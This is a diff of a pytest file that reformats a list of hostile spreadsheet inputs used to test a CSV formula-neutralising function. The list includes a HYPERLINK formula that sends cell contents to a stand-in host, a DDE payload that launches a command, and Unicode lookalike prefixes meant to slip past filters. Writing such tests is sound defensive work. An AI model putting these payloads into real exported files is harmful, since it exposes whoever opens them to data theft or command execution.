@@ -9,9 +9,21 @@ import pytest
 
 from hygie.lib.spreadsheet import csv_writer, neutralise, spreadsheet_cell, unneutralise
 
-HOSTILE = ["\t=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\r=1+1", "  =1+1", "\n-2+3",
-           "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u00a0=1+1"]
+HOSTILE = [
+    "\t=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1",
+    "-1",
+    "\r=1+1",
+    "  =1+1",
+    "\n-2+3",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "\u00a0=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
